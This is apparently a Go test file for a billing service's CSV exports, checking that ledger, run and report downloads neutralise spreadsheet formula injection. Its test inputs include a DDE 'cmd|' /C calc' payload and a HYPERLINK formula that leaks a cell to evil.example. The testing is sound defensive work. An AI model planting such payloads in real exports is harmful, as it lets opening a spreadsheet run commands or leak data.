package web

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/amends/amends/auth"
	"github.com/amends/amends/desk"
	"github.com/amends/amends/templates"
)

// A text cell a spreadsheet would run as a formula gets a leading single
// quote; any other text is left alone.
func TestCSVText(t *testing.T) {
	for in, want := range map[string]string{
		"=1+2": "'=1+2", "+1": "'+1", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
		"": "", "plain": "plain", "a=b": "a=b", "'=x": "'=x", " =x": " =x",
	} {
		if got := csvText(in); got != want {
			t.Errorf("csvText(%q) = %q, want %q", in, got, want)
		}
	}
}

// A table's number cells stay numbers, whatever else their class says;
// its text cells are guarded; either keeps its mark in words.
func TestTableCSVRecord(t *testing.T) {
	got := tableCSVRecord([]templates.DataCell{{Text: "-edge"}, {Text: "-3.2", Class: "num missed"}, {Text: "-150.00 USD", Class: "num"}, {Text: "Met", Class: "met"},
		{Text: "99.79%", Class: "num missed", Mark: "missed"}, {Text: "=edge", Mark: "met"}})
	if want := []string{"'-edge", "-3.2", "-150.00 USD", "Met", "99.79% (missed)", "'=edge (met)"}; !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
}

// The writer's CSV reads back field for field, and a semicolon is quoted,
// so a spreadsheet that splits on it does not start a cell with "=".
func TestCSVWriter(t *testing.T) {
	records := [][]string{
		{"id", "reason", "amount_minor"},
		{"1", `said "hi", then left`, "-15000"},
		{"2", "x;=cmd|' /C calc'!A0", "0"},
		{"3", "two\nlines", ""},
		{"4", " leading space", "12"},
	}
	var buf bytes.Buffer
	w := newCSVWriter(&buf)
	for _, r := range records {
		w.Write(r)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	got, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || fmt.Sprintf("%q", got) != fmt.Sprintf("%q", records) {
		t.Fatalf("read back %q, %v", got, err)
	}
	if !strings.Contains(out, `"x;=cmd|' /C calc'!A0"`) || !strings.Contains(out, "\n1,") || !strings.Contains(out, ",-15000\n") {
		t.Errorf("written:\n%s", out)
	}
}

// In the ledger, run and report exports, text that people wrote and that a
// spreadsheet would run starts with a single quote, while amounts, the
// negative one of an adjustment included, stay numbers.
func TestCSVExportsGuardFormulas(t *testing.T) {
	env := newTestEnv(t)
	support := env.token(auth.Support)
	max := env.personToken("max@example.com", auth.Manager)
	zoe := env.personToken("zoe@example.com", auth.Manager)
	env.seedDesk(support, max)
	pay := func() int64 {
		var run desk.CreditRun
		env.api("POST", "/credit-runs", support, map[string]any{"month": "2012-12"}).expect(t, http.StatusCreated).decode(t, &run)
		env.api("POST", fmt.Sprintf("/credit-runs/%d/request", run.ID), max, nil).expect(t, http.StatusOK)
		env.api("POST", fmt.Sprintf("/credit-runs/%d/approve", run.ID), zoe, nil).expect(t, http.StatusOK)
		return run.ID
	}
	pay() // 25000
	// Corrected charges: the second run takes 15000 back.
	env.api("POST", "/customers/acme/charges", support, map[string]any{"component": "elb-us-east-1", "month": "2012-12", "amount_minor": 100000}).expect(t, http.StatusOK)
	second := pay()
	formula := `=HYPERLINK("http://evil.example/?"&A1,"Refund")`
	for _, reason := range []string{formula, "paid;=1+1", "-1 for the outage"} {
		var m desk.ManualCredit
		env.api("POST", "/manual-credits", max, map[string]any{"customer": "acme", "amount_minor": 500, "reason": reason, "service": "ELB", "month": "2012-12"}).
			expect(t, http.StatusCreated).decode(t, &m)
		if m.State != desk.ManualIssued {
			env.api("POST", fmt.Sprintf("/manual-credits/%d/approve", m.ID), zoe, nil).expect(t, http.StatusOK)
		}
	}

	viewer := env.user(auth.Viewer)
	read := func(b *browser, path string) ([][]string, string) {
		t.Helper()
		resp, body := b.get(path)
		if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
			t.Fatalf("%s: %d %s", path, resp.StatusCode, resp.Header.Get("Content-Type"))
		}
		recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		return recs, body
	}
	col := func(recs [][]string, name string) int { return slices.Index(recs[0], name) }

	ledger, raw := read(viewer, "/admin/credits/ledger.csv?customer=acme")
	reason, amount, kind := col(ledger, "reason"), col(ledger, "amount_minor"), col(ledger, "kind")
	var reasons, amounts []string
	for _, r := range ledger[1:] {
		reasons = append(reasons, r[reason])
		amounts = append(amounts, r[kind]+" "+r[amount])
	}
	for _, want := range []string{"'" + formula, "paid;=1+1", "'-1 for the outage"} {
		if !slices.Contains(reasons, want) {
			t.Errorf("ledger reasons %q lack %q", reasons, want)
		}
	}
	if !slices.Contains(amounts, "adjustment -15000") || !slices.Contains(amounts, "tier 25000") {
		t.Errorf("ledger amounts %q", amounts)
	}
	if !strings.Contains(raw, `"paid;=1+1"`) {
		t.Errorf("the semicolon's field is not quoted:\n%s", raw)
	}

	run, _ := read(viewer, fmt.Sprintf("/admin/credits/runs/%d.csv", second))
	if len(run) != 2 || run[1][col(run, "payable_minor")] != "10000" || strings.HasPrefix(run[1][col(run, "reason")], "'") {
		t.Errorf("run CSV %q", run)
	}

	report, _ := read(env.user(auth.Manager), "/admin/reports/sla.csv?table=credits&service=ELB&month=2012-12")
	var cells []string
	for _, r := range report[1:] {
		cells = append(cells, strings.Join(r, "|"))
	}
	for _, want := range []string{"acme|adjustment|USD|-150.00 USD|correction of", "acme|manual|USD|5.00 USD|'" + formula + "|", "acme|manual|USD|5.00 USD|'-1 for the outage|"} {
		if !slices.ContainsFunc(cells, func(c string) bool { return strings.HasPrefix(c, want) }) {
			t.Errorf("report rows %q lack %q", cells, want)
		}
	}
}
